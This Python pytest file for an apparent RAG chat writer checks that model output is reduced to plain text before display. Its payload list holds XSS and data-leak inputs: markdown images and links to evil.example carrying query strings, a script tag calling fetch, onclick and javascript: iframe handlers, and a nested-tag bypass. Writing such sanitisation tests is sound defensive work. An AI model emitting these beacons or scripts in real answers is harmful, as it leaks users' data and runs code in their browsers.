"""Markup over real HTTP: whatever a model writes, the page is given plain text."""

import pytest
from scripted_server import ScriptedServer, say
from writer_world import GOOD, NAME, write

from rag.writer.chat import Chat

MARKUP = [
    "{s} [1]. ![chart](https://evil.example/p.png?q=15)",
    "{s} ![x](http://evil.example/a.png) [1].",
    "[{s}](https://evil.example/?leak=15) [1].",
    "{s} [1]. See https://evil.example/?q=aops for more.",
    "{s} [1]. Visit www.evil.example now.",
    "{s} [1]. <img src='https://evil.example/x.png'>",
    "{s} [1]. <script>fetch('https://evil.example')</script>",
    "<b>{s}</b> [1].",
    "<p onclick=alert(1)>{s} [1].</p>",
    "<div><style>body{{display:none}}</style>{s} [1].</div>",
    "<!-- hidden -->{s} [1].",
    "<iframe src=javascript:alert(1)></iframe>{s} [1].",
    "<<b>script>alert(1)<</b>/script>{s} [1].",
    '{s} [1]. <a href="data:text/html,x">more</a>',
    "**{s}** [1].",
    "*{s}* [1].",
    "__{s}__ [1].",
    "# Summary\n{s} [1].",
    "> {s} [1].",
    "`{s}` [1].",
    "```\n{s} [1].\n```",
    "~~{s}~~ [1].",
    ":red[{s}] [1].",
    ":material/home: {s} [1].",
    "{s} :smile: [1].",
    "$$\\int x$$ {s} [1].",
    "\\textbf{{{s}}} [1].",
    "\\(x^2\\) {s} [1].",
    "{s} [1].\n\n| a | b |\n|---|---|\n",
    "{s}\u202e [1].",
    "{s}\x1b[0m [1].",
    "\u200b{s}\u200b [1].",
    "{s} [1].\n\n[1]: https://evil.example/ref",
    "{s} [1].\r\n---\r\n",
    "\ufeff{s} [1].",
    "{s}\x00 [1].",
]


@pytest.mark.parametrize("text", MARKUP)
def test_markup_is_gone_and_the_sentence_stays(
    text: str, chat_server: ScriptedServer, real_chat: Chat
) -> None:
    """No HTML, image, link, directive or formula reaches the page, and what was true under it is shown."""
    chat_server.will(say(text.format(s=GOOD), size=3))
    answer = write(real_chat)
    assert answer.writer == NAME
    assert GOOD in answer.text
    assert "evil" not in answer.text
    assert "alert" not in answer.text
